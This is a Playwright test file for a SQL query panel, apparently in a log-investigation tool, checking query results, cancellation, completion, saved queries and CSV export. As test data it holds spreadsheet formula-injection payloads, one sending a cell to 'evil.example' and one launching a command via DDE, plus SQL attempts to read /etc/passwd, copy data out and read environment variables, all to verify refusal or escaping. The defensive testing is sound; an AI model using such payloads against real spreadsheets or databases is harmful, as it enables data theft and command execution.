import { readFileSync } from 'node:fs'
import type { Page } from '@playwright/test'
import { cell, goTo, press, rewrite, runSql, sqlEditor } from './doing.ts'
import { serveFilled } from './filled-case.ts'
import { delivered, record, records } from './logs.ts'
import { expect, test } from './served.ts'

/** Asking the case in SQL: what comes back, what is refused, and what is kept of it. */
let served: Awaited<ReturnType<typeof serveFilled>>

const formulas = [
  '=HYPERLINK("https://evil.example/?"&A1)',
  '+1+cmd|calc',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  'a "quote", b',
]

test.beforeAll(async () => {
  const odd = formulas.map((userAgent, at) => record(200 + at, { userAgent, eventName: 'Odd' }))
  served = await serveFilled('asked', { 'trail.json.gz': delivered([...records(120), ...odd]) })
})
test.afterAll(() => served?.stop())
test.beforeEach(async ({ watched }) => {
  await watched.goto(served.url)
  await goTo(watched, 'SQL')
  await expect(sqlEditor(watched)).toBeVisible()
})

test('the query that stands there runs, and its rows can be looked into', async ({ watched: page }) => {
  await page.getByRole('button', { name: 'Run', exact: true }).click()
  await expect(said(page)).toContainText('4 rows')
  const first = await cell(result(page), 0, 'events')
  await expect(first).toHaveText('60')
  expect(await page.getByRole('grid', { name: 'Result' }).getByRole('columnheader').allInnerTexts()).toEqual([
    'action',
    'outcome',
    'events',
  ])
  await first.dblclick()
  await expect(page.getByRole('complementary', { name: 'Row' })).toContainText(/events bigint\s*60/)
  await page.getByRole('button', { name: 'Close the row' }).click()
  await expect(page.getByRole('complementary', { name: 'Row' })).toBeHidden()

  // A header sorts what is there.
  await runSql(page, 'SELECT actor_name, count(*) AS n FROM event GROUP BY ALL ORDER BY n DESC, actor_name')
  await expect(await cell(result(page), 0, 'actor_name')).toHaveText('alice')
  await result(page).getByRole('columnheader', { name: 'actor_name' }).click()
  await expect(await cell(result(page), 0, 'actor_name')).toHaveText('carol')
})

test('no rows, too many rows, and JSON', async ({ watched: page }) => {
  await runSql(page, "SELECT * FROM event WHERE action = 'Nothing'")
  await expect(page.getByRole('heading', { name: 'No rows' })).toBeVisible()
  await runSql(page, 'SELECT a.ordinal FROM event a, event b')
  await expect(said(page)).toContainText('10,000 rows')
  await expect(said(page)).toContainText(/first|more|limit/i)
  await runSql(page, 'SELECT identity FROM event LIMIT 1')
  await (await cell(result(page), 0, 'identity')).dblclick()
  await expect(page.getByRole('complementary', { name: 'Row' })).toContainText('"userName": "alice"')
})

test('what could do more than read is refused in a sentence', async ({ watched: page }) => {
  const refused: readonly (readonly [string, RegExp])[] = [
    ['DELETE FROM event', /only SELECT is allowed/i],
    ["SELECT * FROM read_csv('/etc/passwd')", /read_csv.*cannot be used here/i],
    ["COPY event TO '/tmp/stolen.csv'", /only SELECT is allowed/i],
    ["SELECT getenv('HOME')", /getenv.*cannot be used here/i],
  ]
  for (const [sql, sentence] of refused) {
    await rerun(page, sql)
    await expect(page.getByRole('alert')).toContainText(sentence)
  }
  // Of several statements the one at the cursor runs; all of them when they are selected.
  await rerun(page, "SELECT 'first' AS which; SELECT 'second' AS which")
  await expect(await cell(result(page), 0, 'which')).toHaveText('second')
  await press(page, 'Control+a Control+Enter')
  await expect(page.getByRole('alert')).toContainText(/2 statements were given/i)
  await rerun(page, 'SELECT count(*) AS n FROM event')
  await expect(await cell(result(page), 0, 'n')).toHaveText('126')
})

test('a mistake is shown where it stands', async ({ watched: page }) => {
  await runSql(page, 'SELECT action,\n  acount\nFROM event')
  await expect(page.getByRole('alert')).toContainText(/acount/)
  await expect(page.getByRole('alert')).toContainText(/LINE 2:\s+acount\s+\^/)
  const marked = await sqlEditor(page).locator('.tok-error, .sql-error, .cm-error, [class*=error]').allInnerTexts()
  expect(marked.join('')).toBe('acount')
  await sqlEditor(page).press('End')
  await page.keyboard.type(' ')
  await expect(sqlEditor(page).locator('[class*=error]')).toHaveCount(0)
})

test('a long query is cancelled, and the next one runs at once', async ({ watched: page }) => {
  const long =
    'SELECT count(*) FROM event a, event b, event c, event d, event e WHERE hash(a.id, b.id, c.id, d.id, e.id) = 1'
  await runSql(page, long)
  const bar = page.getByRole('button', { name: 'Cancel' }).first()
  await expect(page.getByRole('timer')).toContainText(/[1-9].* s|\d{3} ms/)
  await bar.click()
  await expect(page.getByRole('heading', { name: 'Cancelled' })).toBeVisible()
  const before = Date.now()
  await runSql(page, 'SELECT 42 AS answer')
  await expect(await cell(result(page), 0, 'answer')).toHaveText('42')
  expect(Date.now() - before).toBeLessThan(4000)

  // And with the keyboard, the focus being outside of the editor.
  await runSql(page, long)
  await expect(page.getByRole('timer')).toBeVisible()
  await page.getByRole('tab', { name: 'History' }).click()
  await press(page, 'Escape')
  await expect(page.getByRole('heading', { name: 'Cancelled' })).toBeVisible()
  await expect(page.getByRole('tabpanel')).toContainText('no result')
})

test('completion knows the columns and the tables', async ({ watched: page }) => {
  await rewrite(sqlEditor(page), 'SELECT user_a')
  await press(page, 'Control+Space')
  const list = page.getByRole('listbox')
  await expect(list.getByRole('option', { name: /^user_agent/ })).toBeVisible()
  // A list that has just opened takes no key for 75 ms, so that it takes none by mistake.
  await page.waitForTimeout(150)
  await press(page, 'Enter')
  await expect(sqlEditor(page)).toHaveText('SELECT user_agent')
  await rewrite(sqlEditor(page), 'SELECT * FROM ob')
  await press(page, 'Control+Space')
  await expect(list.getByRole('option', { name: /^object/ }).first()).toBeVisible()
  await press(page, 'Control+Enter')
  await expect(list).toBeHidden()

  await page
    .getByRole('tabpanel', { name: 'Schema' })
    .getByRole('button', { name: /^source_ip / })
    .click()
  await expect(sqlEditor(page)).toContainText('source_ip')
})

test('queries are saved in the case, and those that ran are remembered', async ({ watched: page }) => {
  const sql = 'SELECT region, count(*) AS n FROM event GROUP BY ALL ORDER BY n DESC'
  await runSql(page, sql)
  await expect(await cell(result(page), 0, 'n')).toHaveText(/^9\d$/)
  await page.getByRole('button', { name: 'Save', exact: true }).click()
  const dialog = page.getByRole('dialog', { name: 'Save query' })
  await dialog.getByLabel('Name').fill('Regions')
  await dialog.getByRole('button', { name: 'Save' }).click()
  await expect(dialog).toBeHidden()

  await page.reload()
  await page.getByRole('tab', { name: 'Saved' }).click()
  await page
    .getByRole('tabpanel')
    .getByRole('button', { name: /^Regions/ })
    .click()
  await expect(sqlEditor(page)).toHaveText(sql)
  await page.getByRole('tab', { name: 'History' }).click()
  await expect(page.getByRole('tabpanel').getByRole('button', { name: /^SELECT region.* 2 rows/ })).toBeVisible()

  await page.getByRole('tab', { name: 'Saved' }).click()
  await page.getByRole('button', { name: 'Delete Regions' }).click()
  await expect(page.getByRole('tabpanel')).toContainText('Queries that you save are kept here')
})

test('the result is exported as CSV that no spreadsheet runs', async ({ watched: page }) => {
  await runSql(page, "SELECT time, user_agent, ordinal FROM event WHERE action = 'Odd' ORDER BY time")
  await expect(said(page)).toContainText('6 rows')
  await page.getByRole('button', { name: 'Export…' }).click()
  const dialog = page.getByRole('dialog', { name: 'Export the result of this query' })
  await expect(dialog.getByRole('radio', { name: /^CSV/ })).toBeChecked()
  await dialog.getByRole('button', { name: 'Export', exact: true }).click()
  await expect(dialog).toContainText(/6 rows/)
  await expect(dialog).toContainText(/[0-9a-f]{64}/)
  const download = page.waitForEvent('download')
  await dialog.getByRole('button', { name: 'Save with the browser' }).click()
  const file = await download
  expect(file.suggestedFilename()).toMatch(/^asked-sql-.*\.csv$/)
  expect(readFileSync(await file.path(), 'utf8').split('\n')).toEqual([
    'time,user_agent,ordinal',
    `2026-05-01T01:40:00Z,"'=HYPERLINK(""https://evil.example/?""&A1)",120`,
    "2026-05-01T01:40:30Z,'+1+cmd|calc,121",
    "2026-05-01T01:41:00Z,'-2+3,122",
    "2026-05-01T01:41:30Z,'@SUM(A1:A9),123",
    "2026-05-01T01:42:00Z,'\t=1+1,124",
    '2026-05-01T01:42:30Z,"a ""quote"", b",125',
    '',
  ])
})

const result = (page: Page) => page.getByRole('grid', { name: 'Result' })
const said = (page: Page) => page.getByRole('status').filter({ hasText: ' rows' })

/** Runs a query that may fail as the one before did: the sentence of that one is gone first. */
async function rerun(page: Page, sql: string): Promise<void> {
  await runSql(page, 'SELECT 1 AS gone')
  await expect(await cell(result(page), 0, 'gone')).toBeVisible()
  await runSql(page, sql)
}
